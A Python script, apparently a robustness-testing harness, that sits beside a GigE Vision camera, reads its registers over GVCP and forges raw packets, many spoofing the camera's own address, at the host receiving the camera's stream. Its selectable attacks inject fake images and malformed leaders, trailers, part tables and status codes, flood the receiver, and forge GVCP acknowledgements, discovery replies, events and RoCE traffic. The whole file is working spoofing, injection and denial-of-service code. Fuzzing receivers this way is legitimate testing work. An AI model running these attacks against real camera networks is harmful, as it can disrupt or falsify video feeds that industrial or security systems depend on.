"""A host beside a camera that sends what it should not, to the one who receives the camera's stream.

Arguments: own interface, own address, address of the camera, address and MAC of the receiver, kind of attack, block id that
the camera is about to send. What it has to know it reads from the camera's registers, as every host may.
"""
import random
import socket
import struct
import sys
import time

interface, own, camera, victim, victim_mac, kind = sys.argv[1:7]
newest = int(sys.argv[7])
random.seed(7)

GVCP = 3956
ROCE = 4791
WINDOW = 60
ROUNDS = 3
MONO8 = 0x01080001

raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind((interface, 0))
own_mac = raw.getsockname()[4]
ETHERNET = bytes.fromhex(victim_mac.replace(":", "")) + own_mac + b"\x08\x00"


def register(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(5)
        asking.sendto(struct.pack(">BBHHHI", 0x42, 1, 0x80, 4, 1, address), (camera, GVCP))
        return struct.unpack(">I", asking.recv(64)[8:12])[0]


def checksum(data):
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send(source, source_port, port, data):
    udp = struct.pack(">HHHH", source_port, port, 8 + len(data), 0) + data
    addresses = socket.inet_aton(source) + socket.inet_aton(victim)
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0) + addresses
    head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
    raw.send(ETHERNET + head + udp)


stream_port = register(0x0D00) & 0xFFFF
camera_port = register(0x0D1C) & 0xFFFF
message_port = register(0x0B00) & 0xFFFF
control_port = register(0x0A04) & 0xFFFF


def forge(data):
    """As the camera itself would send it."""
    send(camera, camera_port, stream_port, data)


def packet(form, block, number, body=b"", status=0):
    return struct.pack(">HHI", status, block & 0xFFFF, form << 24 | number) + body


def extended(form, block, number, body=b"", parts=0):
    return struct.pack(">HHBBBBQI", 0, 0, 0x80 | form, 0, 0, parts, block, number) + body


def image_leader(width, height, kind_of_payload=1):
    return struct.pack(">HHQIIIIIHH", 0, kind_of_payload, 77, MONO8, width, height, 0, 0, 0, 0)


def sized_leader(kind_of_payload, size):
    return struct.pack(">HHQQ", 0, kind_of_payload, 77, size) + bytes(12)


def image_trailer(lines, kind_of_payload=1):
    return struct.pack(">HHI", 0, kind_of_payload, lines)


def blocks():
    for _ in range(ROUNDS):
        for ahead in range(-2, WINDOW):
            yield max(1, newest + ahead)
        time.sleep(0.05)


def whole_image(sender, block):
    sender(packet(1, block, 0, image_leader(320, 240)))
    for number in range(1, 65):
        sender(packet(3, block, number, b"\xee" * 1200))
    sender(packet(2, block, 65, image_trailer(240)))


def foreign_address():
    for block in blocks():
        whole_image(lambda data: send(own, camera_port, stream_port, data), block)


def foreign_port():
    for block in blocks():
        whole_image(lambda data: send(camera, camera_port ^ 1, stream_port, data), block)


def flood():
    end = time.monotonic() + 1
    while time.monotonic() < end:
        for _ in range(100):
            send(own, random.randrange(1, 65536), stream_port, b"\xee" * 32)


def flood_of_scraps():
    for _ in range(5000):
        forge(b"\xee" * random.randrange(8))


def small_leaders():
    for block in blocks():
        forge(packet(1, block, 0, image_leader(8, 8)))
        forge(packet(1, block, 0, image_leader(0, 0)))


def leaders_of_other_types():
    for block in blocks():
        forge(packet(1, block, 0, sized_leader(2 + block % 2, 10)))
        forge(packet(1, block, 0, sized_leader(6, 1 << 62)))


def trailers_of_other_types():
    for block in blocks():
        forge(packet(2, block, 3 + block % 6, image_trailer(1, 4)))


def early_trailers():
    for block in blocks():
        forge(packet(2, block, 2 + block % 4, image_trailer(240)))


def payload_of_other_formats():
    for block in blocks():
        for form in (0, 5, 6, 7, 8, 9, 15):
            forge(packet(form, block, 1 + form % 4, b"\xee" * 1200))


def ids_far_ahead():
    for block in blocks():
        forge(packet(3, block + 20000, 1, b"\xee" * 1200))


def block_id_zero():
    for size in range(64, 1400):
        forge(packet(3, 0, size, b"\xee" * size))


def huge_packet_ids():
    for block in blocks():
        forge(packet(3, block, 0xFFFFFF, b"\xee"))
        forge(packet(3, block, 5000, b"\xee"))


def all_in_that_contradicts_itself():
    for block in blocks():
        forge(packet(4, block, 0, image_leader(4000, 4000) + image_trailer(4000) + b"\xee" * 10))
        forge(packet(4, block, 0, image_leader(4000, 4000)))


def containers():
    for block in blocks():
        forge(packet(1, block, 0, struct.pack(">HHQQIi", 0, 11, 77, 1 << 60, 0x80000000, -1)))
        forge(packet(8, block, 1, struct.pack(">IQBBH", 100, 1 << 60, 0xC0, 0, 0) + b"\xee" * 100))
        forge(packet(8, block, 2, struct.pack(">IQBBH", 0xFFFFFFFF, 0, 0, 0, 65535) + b"\xee" * 100))


def parts():
    table = struct.pack(">HHQ", 0, 10, 77)
    for part in range(29):
        table += struct.pack(">HHIIBBBBIHH", 1, 0x7FFF, 0xFFFFFFFF, MONO8, 0, 0, part, 0, 0, 0, 0)
        table += struct.pack(">IIIIHHI", 0xFFFFFFFF, 0xFFFFFFFF, 0, 0, 0, 0, 0)
    for block in blocks():
        forge(packet(1, block, 0, table))
        forge(packet(7, block, 1, struct.pack(">BBHI", 28, 0, 0x7FFF, 0xFFFFFF00) + b"\xee" * 100))
        forge(packet(7, block, 2, struct.pack(">BBHI", 0, 0, 0, 0) + b"\xee" * 100))


def statuses():
    for block in blocks():
        for status in (0x800C, 0x8010, 0x8012, 0x8013, 0x8014, 0x8017, 0x8FFF):
            forge(packet(3, block, random.randrange(12), status=status))


def extended_ids():
    for block in blocks():
        forge(extended(3, block, 1, b"\xee" * 1200))
        forge(extended(2, block, 2, image_trailer(240)))


def answers_from_elsewhere():
    for number in range(1, 65536, 3):
        send(own, GVCP, control_port, struct.pack(">HHHH", 0, 0x81, 4, number) + bytes(4))


def answers_nobody_asked_for():
    for number in range(1, 3000):
        send(camera, GVCP, control_port, struct.pack(">HHHH", 0, 0x0085, 8, 0) + bytes(8))
        send(camera, GVCP, control_port, b"\xee" * (number % 8))


def pending_answers_from_elsewhere():
    for number in range(1, 65536, 3):
        send(own, GVCP, control_port, struct.pack(">HHHHHH", 0, 0x89, 4, number, 0, 65535))


def discovery_answers():
    for number in range(3000):
        send(own, GVCP, control_port, struct.pack(">HHHH", 0, 3, 248, 0xFFFF) + bytes(248))
        send(camera, GVCP, control_port, struct.pack(">HHHH", 0, 3, 248, 0xFFFF) + bytes(248))


def events():
    for number in range(1, 2000):
        event = struct.pack(">BBHHH", 0x42, 1, 0xC0, 16, number) + struct.pack(">HHHHQ", 0, 0x9001, 0, 1, 5)
        send(own, GVCP, message_port, event)
        send(camera, GVCP, message_port, event)


def rdma():
    for number in range(3000):
        send(camera, ROCE, ROCE, struct.pack(">BBHII", 0x64, 0, 0xFFFF, 1, number) + bytes(300))


def payload_of_the_camera():
    for block in blocks():
        for number in range(1, 10):
            forge(packet(3, block, number, b"\xee" * 1200))


def blocks_of_the_camera():
    for block in blocks():
        whole_image(forge, block + 500)


globals()[kind]()
